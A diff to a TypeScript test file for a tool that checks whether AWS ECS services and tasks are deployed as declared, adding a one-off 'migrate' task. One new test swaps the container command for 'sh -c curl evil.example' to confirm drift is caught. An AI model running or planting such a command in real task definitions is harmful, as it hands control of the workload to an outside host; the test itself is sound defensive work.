@@ -15,12 +15,15 @@ const web = serviceDefinition({
   secretFiles: { CERTIFICATE: file('certificate.pem', parameter('certificate')) },
 });
 const report = { image: 'shop:1', size: { cpu: 256, memoryMiB: 512 }, schedule: 'rate(1 day)', timeZone: 'UTC' };
+const migrate = { image: 'shop:1', size: { cpu: 256, memoryMiB: 512 }, command: ['migrate'] };
 const environment = {
-  ...environmentConfig({ application: 'shop', services: { web }, scheduledTasks: { report } }),
+  ...environmentConfig({ application: 'shop', services: { web }, scheduledTasks: { report }, tasks: { migrate } }),
   name: 'dev',
 };
 const service: Workload = { kind: 'service', name: 'web', config: web };
 const task: Workload = { kind: 'scheduledTask', name: 'report', config: report };
+
+const oneOff: Workload = { kind: 'task', name: 'migrate', config: migrate };
 
 const SECRET_ARN = 'arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:shop/dev/key-AbCdEf';
 
@@ -65,6 +68,16 @@ test('of a service, the task definition that it runs with is compared, in whatev
 test('of a scheduled task, the one that its schedule starts: others in its family run nowhere', async () => {
   const { comparing } = await compare(task);
   await expect(comparing).resolves.toBe('arn:scheduled:3');
+});
+
+test('of a one-off task, the latest of its family, whoever registered it', async () => {
+  const { calls, comparing } = await compare(oneOff);
+  await expect(comparing).resolves.toBe('shop-dev-migrate');
+  expect(calls).toEqual([{ command: 'DescribeTaskDefinitionCommand', input: { taskDefinition: 'shop-dev-migrate' } }]);
+  const { comparing: another } = await compare(oneOff, ({ containerDefinitions }) =>
+    containerDefinitions.forEach((one) => (one.command = ['sh', '-c', 'curl evil.example'])),
+  );
+  await expect(another).rejects.toThrow('migrate is deployed otherwise than it is declared');
 });
 
 const container = ({ containerDefinitions }: Deployed, name = 'web') => {
@@ -172,15 +185,15 @@ test.each<[string, Workload, Answers]>([
       },
     },
   ],
-  [
-    'a scheduled task without a task definition',
-    task,
+  ...[task, oneOff].map((workload): [string, Workload, Answers] => [
+    `a ${workload.kind} without a task definition`,
+    workload,
     {
       DescribeTaskDefinitionCommand: () => {
         throw awsError('ClientException', 'Unable to describe task definition.');
       },
     },
-  ],
+  ]),
 ])('%s is not deployed', async (_title, workload, answers) => {
   const { comparing } = await compare(workload, undefined, answers);
   await expect(comparing).rejects.toThrow(`${workload.name} is not deployed in dev. Deploy it: npx cdktf deploy dev`);
